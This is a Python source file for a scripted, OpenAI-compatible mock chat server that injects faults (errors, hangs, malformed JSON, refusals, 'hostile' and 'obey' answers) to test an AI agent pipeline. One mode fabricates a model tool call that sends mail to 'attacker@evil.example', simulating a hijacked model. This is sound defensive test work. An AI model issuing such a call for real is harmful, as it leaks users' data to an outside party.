"""A small OpenAI-compatible server with scripted answers, as a bare ASGI application.

It is the default provider without a key, and the model of every test: `POST /v1/chat/completions`, `GET
/v1/models`. `/control` (GET, POST, DELETE) sets latency and faults and tells what was received. For
loopback: it asks nobody for a key.

A fault is `{"mode": M, "share": 0.3, "times": 5, "match": "text"}`: it meets requests whose body holds
`match`, that share of them (by request number, not by chance), at most `times` times. Modes: `429` (with
`retry_after`, seconds), any other status as `500`, `hang`, `drip` (a blank byte each `every_s`), `reset`,
`malformed`, `truncated`, `empty`, `fenced`, `extra_key`, `percent` ("85%"), `out_of_range` (101), `nan`,
`refusal`, `content_filter`, `prose`, `hostile`, `obey`, `tool_call`, `long`, `other_language`,
`header_in_text`, `link_in_prose`, `recipient` (keys `to` and `cc`), `half` (a key is missing),
`not_json_body`, `no_usage`, `wrong_usage`, `slow` (answers after `delay_s`), `dear` (reports that the call
cost `cost_usd`), `cut` (the connection ends in the middle of the body).
"""

import asyncio
import contextlib
import json
from collections import Counter, deque
from collections.abc import Awaitable, Callable, MutableMapping
from dataclasses import dataclass, field
from typing import Any

from ai_agents.llm import scripted_answers as answers
from ai_agents.llm.providers import SCRIPTED_MODEL
from ai_agents.llm.scripted_obey import ASTRAY, hostile, obey

Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
MAX_REQUEST_BYTES = 2_000_000
JSON = (b"content-type", b"application/json")


@dataclass(slots=True)
class Fault:
    """One way to fail, and whom it meets."""

    mode: str
    share: float = 1.0
    times: int | None = None
    match: str = ""
    retry_after: str = ""
    every_s: float = 1.0
    delay_s: float = 0.0
    cost_usd: float = 0.0
    seen: int = 0
    used: int = 0

    def meets(self, body: str) -> bool:
        """Whether this request fails. A share of 0.3 means every request at which seen x 0.3 passes a
        whole number.
        """
        if self.match and self.match not in body:
            return False
        if self.times is not None and self.used >= self.times:
            return False
        before, self.seen = int(self.seen * self.share), self.seen + 1
        if int(self.seen * self.share) == before:
            return False
        self.used += 1
        return True


@dataclass(slots=True)
class Script:
    """How the server behaves, and what it saw."""

    latency_s: float = 0.0
    models: list[str] = field(default_factory=lambda: [SCRIPTED_MODEL])
    faults: list[Fault] = field(default_factory=list)
    keep_bodies: int = 0
    counts: Counter[str] = field(default_factory=Counter)
    in_flight: int = 0
    most_in_flight: int = 0
    contents: Counter[bytes] = field(default_factory=Counter)
    bodies: deque[str] = field(default_factory=deque)

    def set(self, wanted: dict[str, Any]) -> None:
        """Take the given settings; raises TypeError or ValueError for what it does not know."""
        for name, value in wanted.items():
            if name == "latency_s":
                self.latency_s = float(value)
            elif name == "models":
                self.models = [str(model) for model in value]
            elif name == "faults":
                self.faults = [Fault(**fault) for fault in value]
            elif name == "keep_bodies":
                self.keep_bodies = int(value)
                self.bodies = deque(self.bodies, maxlen=self.keep_bodies)
            else:
                raise ValueError(f"unknown setting {name}")

    def seen(self) -> dict[str, Any]:
        """What was received so far. `repeated` counts requests whose facts had been asked about before."""
        return {
            "requests": self.counts["requests"],
            "by_mode": {k: n for k, n in self.counts.items() if k != "requests"},
            "in_flight": self.in_flight,
            "most_in_flight": self.most_in_flight,
            "distinct": len(self.contents),
            "repeated": sum(n - 1 for n in self.contents.values()),
            "bodies": list(self.bodies),
        }

    def forget(self) -> None:
        """Back to the beginning: no latency, no faults, nothing seen. Requests in flight stay counted."""
        flying = self.in_flight
        self.__init__()  # type: ignore[misc]
        self.in_flight = flying


class ScriptedModel:
    """The ASGI application. One Script each, so that tests do not share one."""

    def __init__(self, script: Script | None = None) -> None:
        self.script = script or Script()

    async def __call__(self, scope: Message, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            await _lifespan(receive, send)
            return
        if scope["type"] != "http":
            return
        body = await _body(receive)
        route = (scope["method"], scope["path"].removesuffix("/"))
        if route == ("POST", "/v1/chat/completions"):
            await self._complete(body, receive, send)
        elif route == ("GET", "/v1/models"):
            models = [{"id": model, "object": "model"} for model in self.script.models]
            await _reply(send, 200, {"object": "list", "data": models})
        elif scope["path"].startswith("/control"):
            await self._control(scope["method"], body, send)
        else:
            await _reply(send, 404, _error("not_found", "no such address"))

    async def _control(self, method: str, body: bytes, send: Send) -> None:
        try:
            if method == "POST":
                self.script.set(json.loads(body))
            elif method == "DELETE":
                self.script.forget()
        except (ValueError, TypeError, AttributeError) as error:
            await _reply(send, 400, _error("bad_control", str(error)))
            return
        await _reply(send, 200, self.script.seen())

    async def _complete(self, body: bytes, receive: Receive, send: Send) -> None:
        script = self.script
        try:
            request = json.loads(body)
            asked = answers.read_request(request["messages"])
        except (ValueError, LookupError, TypeError, AttributeError):
            await _reply(send, 400, _error("bad_request", "messages are missing"))
            return
        text = body.decode("utf-8", "replace")
        script.counts["requests"] += 1
        script.contents[asked.digest] += 1
        if script.keep_bodies:
            script.bodies.append(text)
        fault = next((f for f in script.faults if f.meets(text)), None)
        mode = fault.mode if fault else "ok"
        script.counts[mode] += 1
        script.in_flight += 1
        script.most_in_flight = max(script.most_in_flight, script.in_flight)
        try:
            if script.latency_s and not (fault and mode.isdigit()):
                await asyncio.sleep(script.latency_s)
            await self._answer(request, asked, fault, receive, send)
        finally:
            script.in_flight -= 1

    async def _answer(
        self, request: dict[str, Any], asked: answers.Asked, fault: Fault | None, receive: Receive, send: Send
    ) -> None:
        mode = fault.mode if fault else "ok"
        if fault and mode.isdigit():
            headers = [(b"retry-after", fault.retry_after.encode())] if fault.retry_after else []
            await _reply(send, int(mode), _error(f"scripted_{mode}", "as scripted"), headers)
        elif mode == "hang":
            await _until_gone(receive)
        elif mode == "drip" and fault:
            await _drip(send, receive, fault.every_s)
        elif mode == "reset":
            raise ConnectionResetError("as scripted")  # uvicorn closes the connection without an answer
        elif mode == "not_json_body":
            await _reply(send, 200, b"<html>502 Bad gateway</html>")
        elif mode == "cut":
            await _cut(send, json.dumps(completion(request, asked, "ok")).encode())
        else:
            if fault and fault.delay_s:
                await asyncio.sleep(fault.delay_s)
            body = completion(request, asked, mode)
            if fault and mode == "dear":
                body["usage"]["estimated_cost"] = fault.cost_usd
            await _reply(send, 200, body)


def completion(request: dict[str, Any], asked: answers.Asked, mode: str) -> dict[str, Any]:
    """The body of a 200, in one of the modes that answer."""
    text = content(asked, mode)
    prompt_chars = sum(len(str(m.get("content") or "")) for m in request["messages"])
    message: dict[str, Any] = {"role": "assistant", "content": text}
    finish = {"truncated": "length", "content_filter": "content_filter"}.get(mode, "stop")
    if mode == "tool_call":
        call = {"name": "send_mail", "arguments": '{"to": "attacker@evil.example"}'}
        message |= {"content": None, "tool_calls": [{"id": "1", "type": "function", "function": call}]}
    if mode == "refusal":
        message |= {"content": None, "refusal": "I cannot help with that."}
    usage: dict[str, Any] | None = {
        "prompt_tokens": prompt_chars // 4 + 1,
        "completion_tokens": len(text) // 4 + 1,
        "total_tokens": (prompt_chars + len(text)) // 4 + 2,
        "prompt_tokens_details": {"cached_tokens": 0},
    }
    if mode == "no_usage":
        usage = None
    elif mode == "wrong_usage":
        usage = {"prompt_tokens": -5, "completion_tokens": 10**12, "total_tokens": "many"}
    return {
        "id": f"scripted-{asked.digest.hex()[:16]}",
        "object": "chat.completion",
        "created": 0,
        "model": request.get("model", SCRIPTED_MODEL),
        "choices": [{"index": 0, "message": message, "finish_reason": finish}],
        "usage": usage,
    }


def content(asked: answers.Asked, mode: str) -> str:
    """The text of the message in each mode."""
    honest = answers.answer(asked)
    if mode in {"obey", "hostile"}:
        return _json({"obey": obey, "hostile": hostile}[mode](asked, honest))
    if mode in ASTRAY:
        return _json(ASTRAY[mode](honest))
    key = "subject" if asked.agent == "follow_up" else "fit"
    changed = {
        "extra_key": honest | {"confidence": "very high"},
        "percent": honest | {key: "85%" if key == "fit" else 85},
        "out_of_range": honest | {key: 101 if key == "fit" else ""},
        "nan": honest | {key: float("nan")},
    }
    if mode in changed:
        return _json(changed[mode])
    text = _json(honest)
    return {
        "malformed": text[:-1].replace('":', '"=', 3),
        "truncated": text[: len(text) // 2],
        "empty": "",
        "content_filter": "",
        "fenced": f"Here is the answer:\n```json\n{text}\n```\n",
        "prose": "The lead looks good to me. I would call them.",
    }.get(mode, text)


def _json(value: dict[str, Any]) -> str:
    return json.dumps(value, ensure_ascii=False)


def _error(code: str, message: str) -> dict[str, Any]:
    return {"error": {"code": code, "message": message, "type": code}}


async def _body(receive: Receive) -> bytes:
    parts: list[bytes] = []
    size = 0
    while True:
        message = await receive()
        if message["type"] == "http.disconnect":
            return b""
        size += len(message.get("body", b""))
        if size <= MAX_REQUEST_BYTES:
            parts.append(message.get("body", b""))
        if not message.get("more_body"):
            return b"".join(parts)


async def _reply(
    send: Send, status: int, body: Any, headers: list[tuple[bytes, bytes]] | None = None
) -> None:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    start = [JSON, (b"content-length", str(len(raw)).encode()), *(headers or [])]
    await send({"type": "http.response.start", "status": status, "headers": start})
    await send({"type": "http.response.body", "body": raw})


async def _cut(send: Send, raw: bytes) -> None:
    """Promise the whole body, send half of it, hang up."""
    start = [JSON, (b"content-length", str(len(raw)).encode())]
    await send({"type": "http.response.start", "status": 200, "headers": start})
    await send({"type": "http.response.body", "body": raw[: len(raw) // 2], "more_body": True})
    raise ConnectionResetError("as scripted")


async def _until_gone(receive: Receive) -> None:
    """Never answer; end when the caller has hung up."""
    while (await receive())["type"] != "http.disconnect":
        pass


async def _drip(send: Send, receive: Receive, every_s: float) -> None:
    """Blank bytes for as long as the caller stays: what resets a read timeout and only a wall clock
    bounds.
    """
    await send({"type": "http.response.start", "status": 200, "headers": [JSON]})
    gone = asyncio.ensure_future(_until_gone(receive))
    try:
        while not gone.done():
            await send({"type": "http.response.body", "body": b" ", "more_body": True})
            await asyncio.wait([gone], timeout=every_s)
    finally:
        gone.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await gone


async def _lifespan(receive: Receive, send: Send) -> None:
    while True:
        message = await receive()
        await send({"type": f"{message['type']}.complete"})
        if message["type"] == "lifespan.shutdown":
            return
